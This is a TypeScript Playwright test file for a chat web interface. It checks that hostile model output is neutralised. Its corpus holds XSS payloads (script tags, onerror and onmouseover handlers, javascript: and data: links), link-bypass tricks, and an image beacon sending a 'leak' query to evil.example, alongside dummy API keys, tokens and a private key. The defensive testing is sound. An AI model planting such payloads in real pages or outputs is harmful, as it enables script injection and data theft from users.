/** Hostile model output: markup, script URLs, remote images and credentials never act or show. */
import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import type { Page } from "playwright-core";
import { type ChatPage, openChatPage } from "../support/browser.js";

const SECRETS = [
	"sk-ant-api03-Abcdefghijklmnopqrstuvwx",
	"sk-proj-0123456789abcdefghijKLMN",
	"ghp_abcdefghijklmnopqrstuvwxyz0123456789",
	"xoxb-1234567890-abcdefghijkl",
	"AKIAABCDEFGHIJKLMNOP",
	"bearer-secret-abcdefghijklmnop",
	"supersecretvalue123",
	"another-secret-value",
	"MIIEpAIBAAKCAQEAx7Secretkeymaterial",
];

const CORPUS = [
	"<script>window.__xss = 1</script>",
	'<img src=x onerror="window.__xss = 2">',
	"[click me](javascript:window.__xss=3)",
	"[data link](data:text/html,<script>window.__xss=4</script>)",
	"[protocol relative](//evil.example/steal)",
	"[backslash trick](/\\evil.example)",
	"![remote](https://evil.example/beacon.png?q=leak)",
	"![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIj48L3N2Zz4=)",
	"![pixel](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==)",
	'<a href="javascript:window.__xss=5">html link</a>',
	"**<b onmouseover=window.__xss=6>bold</b>**",
	"`<script>window.__xss=7</script>`",
	"```html\n<script>window.__xss=8</script>\n<iframe src=\"https://evil.example\"></iframe>\n```",
	"[ok link](https://example.com/docs) and [relative](/web) and <mailto:someone@example.com>",
	"-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEAx7Secretkeymaterial\nmore+key/material==\n-----END RSA PRIVATE KEY-----",
	`keys: ${SECRETS[0]} ${SECRETS[1]} ${SECRETS[2]} ${SECRETS[3]} ${SECRETS[4]}`,
	`Authorization: Bearer ${SECRETS[5]}`,
	`token=${SECRETS[6]} and api_key: ${SECRETS[7]}`,
	`[link with key](https://example.com/?api_key=${SECRETS[6]})`,
].join("\n\n");

let chat: ChatPage;
let page: Page;
let requests: string[];
const dialogs: string[] = [];

before(async () => {
	chat = await openChatPage({
		args: ["--model", "fake/fake-reasoner", "--thinking", "low"],
		watch: (p) =>
			p.on("dialog", (d) => {
				dialogs.push(d.message());
				void d.dismiss();
			}),
	});
	({ page, requests } = chat);
});

after(() => chat?.close());

async function assertClean(stage: string): Promise<void> {
	const html = await page.evaluate(() => document.documentElement.outerHTML);
	for (const secret of SECRETS) {
		const at = html.indexOf(secret);
		assert.ok(at < 0, `${stage}: ${secret} reached the DOM: …${html.slice(Math.max(0, at - 120), at + 40)}`);
	}
	assert.equal(await page.evaluate(() => (window as unknown as { __xss?: number }).__xss), undefined, `${stage}: script ran`);
	assert.deepEqual(dialogs, []);
	// Every link but the page's own skip link (to the message box).
	const hrefs = await page.evaluate(() => [...document.querySelectorAll("a:not(.skip-link)")].map((a) => a.getAttribute("href") ?? ""));
	for (const href of hrefs) assert.match(href, /^(https?:|mailto:|\/(?![/\\]))/, `${stage}: link ${href}`);
	const srcs = await page.evaluate(() => [...document.querySelectorAll("img, iframe, script[src]")].map((e) => e.getAttribute("src") ?? ""));
	for (const src of srcs) assert.match(src, /^data:image\/(png|jpeg|gif|webp|avif|bmp);base64,/, `${stage}: ${src.slice(0, 40)}`);
	assert.equal(await page.evaluate(() => document.querySelectorAll("iframe, object, embed").length), 0);
	assert.equal(await page.evaluate(() => document.querySelectorAll("script").length), 1, `${stage}: only the page's own script`);
	assert.ok(requests.every((u) => !u.includes("evil.example")), `${stage}: a remote request was made`);
}

test("an XSS and secret corpus streamed as thinking, reply and tool output never executes or shows", async () => {
	const message = `THINK ${CORPUS.replace(/\n/g, " ")}\nREPLY_JSON ${JSON.stringify(CORPUS)}\nSLOW 5`;
	await page.fill("textarea", message);
	await page.keyboard.press("Enter");
	// Check repeatedly while it streams, then once it has finished.
	for (let i = 0; i < 8; i++) {
		await page.waitForTimeout(150);
		await assertClean(`while streaming (${i})`);
	}
	await page.waitForSelector(".badge.streaming", { state: "detached", timeout: 30_000 });
	await page.waitForSelector(".msg.assistant .md a[href='https://example.com/docs']");
	await assertClean("after the reply");
	// What should survive does: a safe link, a relative link, mailto, a whitelisted data image, text shown as text.
	assert.equal(await page.locator(".msg.assistant a[href='/web']").count(), 1);
	assert.equal(await page.locator(".msg.assistant a[href^='mailto:']").count(), 1);
	assert.equal(await page.locator(".msg.assistant img[src^='data:image/png']").count(), 1);
	assert.ok((await page.locator(".msg.assistant").last().textContent())!.includes("<script>window.__xss = 1</script>"));
	assert.ok((await page.locator(".msg.assistant").last().textContent())!.includes("[REDACTED]"));

	await page.fill("textarea", `RUN printf '%s\\n' '${SECRETS[0]}' 'token=${SECRETS[6]}' '<img src=x onerror=window.__xss=9>'`);
	await page.keyboard.press("Enter");
	await page.waitForSelector(".tool.bash[data-state='done']");
	await page.waitForSelector(".badge.streaming", { state: "detached", timeout: 30_000 });
	await assertClean("after a tool run");
});
